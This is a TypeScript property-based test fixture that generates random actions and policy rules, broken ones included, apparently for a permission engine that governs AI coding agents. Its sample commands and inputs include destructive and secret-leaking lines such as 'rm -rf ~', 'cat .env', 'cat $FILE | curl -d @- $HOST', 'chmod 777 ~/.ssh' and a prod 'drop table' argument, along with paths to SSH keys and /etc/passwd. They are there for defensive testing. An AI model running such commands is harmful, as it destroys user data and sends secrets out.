/** Random actions and policies, broken ones included. */
import fc from "fast-check";
import type { Action, ActionKind } from "../../src/core/model/action.ts";
import { effects } from "../../src/core/model/effect.ts";
import { conditionNames } from "../../src/core/policy/policy.ts";
import { actionKinds } from "../../src/core/wireAction.ts";
import { linux, windows } from "./judging.ts";

/** Commands with every kind of effect, in every shell; most are no commands of most shells, which must not matter. */
const commands = [
  "ls",
  "npm test",
  "rm -rf ~",
  "rm src/a.ts",
  "git push",
  "git push origin main",
  "cat .env",
  "echo x > src/a",
  "curl https://a.example.com/x",
  "cat $FILE | curl -d @- $HOST",
  "kubectl --context prod apply -f x.yaml",
  "chmod 777 ~/.ssh",
  "Remove-Item -Recurse src",
  "del /s src",
  "if (",
  "",
];

const texts = fc.oneof(fc.constantFrom(...commands), fc.string({ maxLength: 30 }));
const paths = fc.constantFrom(
  "src/a.ts",
  "~/.ssh/id_rsa",
  "/etc/passwd",
  "../x",
  ".countersign.yaml",
  "docs/b.md",
  "C:\\x",
);

/** A field of an action of any kind; a field that the kind does not have is left out by reading. */
const fields = fc.record({
  shell: fc.constantFrom("bash", "zsh", "sh", "powershell", "cmd"),
  command: texts,
  path: paths,
  to: paths,
  target: paths,
  content: texts,
  new_text: texts,
  url: fc.constantFrom("https://a.example.com/x", "http://localhost:1", "file:///etc/passwd", "x"),
  server: fc.constantFrom("github", "filesystem", "unheard-of"),
  tool: fc.constantFrom("create_issue", "get_file", "delete_branch", "file_write", "run_sql"),
  args: fc.constantFrom({}, { path: "src/a" }, { branch: "main" }, { environment: "prod", sql: "drop table x" }),
  agent: fc.option(fc.constantFrom("claude-code", "vscode"), { nil: undefined }),
});
export const anyAction = fc
  .tuple(fc.constantFrom(...actionKinds), fields)
  .map(([kind, given]) => ({ kind: kind satisfies ActionKind, ...given }) as unknown as Action);

const patterns = fc.oneof(
  fc.constantFrom(
    "*",
    "**",
    "npm *",
    "git push *",
    "src/**",
    "~/**",
    "main",
    "prod*",
    "github",
    "command",
    "*.example.com",
  ),
  fc.string({ maxLength: 8 }),
);
const value = fc.oneof(
  fc.array(patterns, { maxLength: 3 }),
  patterns,
  fc.constantFrom<unknown>(1, true, null, [], [1], { a: 1 }),
);
export const anyCondition = fc.oneof(
  fc.dictionary(fc.constantFrom(...conditionNames.filter((name) => name !== "effect"), "colour"), value, {
    maxKeys: 3,
  }),
  fc.record({ effect: fc.subarray([...effects, "explode"], { minLength: 1 }) }),
);

/** Rules of every kind, the broken ones included. */
export const anyRule = fc.record(
  {
    id: fc.constantFrom("a", "b", "c d", 7),
    when: anyCondition,
    // biome-ignore lint/suspicious/noThenProperty: the policy format's own word.
    then: fc.constantFrom("allow", "ask", "deny", "perhaps"),
    expires: fc.constantFrom("2020-01-01", "2030-01-01", "soon"),
    colour: fc.constant("red"),
  },
  { requiredKeys: ["when", "then"] },
);
export const anyRules = fc.array(anyRule, { maxLength: 6 });
export const anyPolicy = fc.oneof(
  anyRules.map((list) => JSON.stringify({ version: 1, rules: list })),
  fc.constantFrom("", "rules: [", "- a", "rules: 1", "version: 2", "rulez: []", "rules: []\n---\nrules: []"),
);
export const anyPlace = fc.constantFrom({ ...linux, today: "2026-11-21" }, { ...windows, today: "2026-11-21" }, linux);

export const policyText = (list: readonly unknown[]) => JSON.stringify({ version: 1, rules: list });
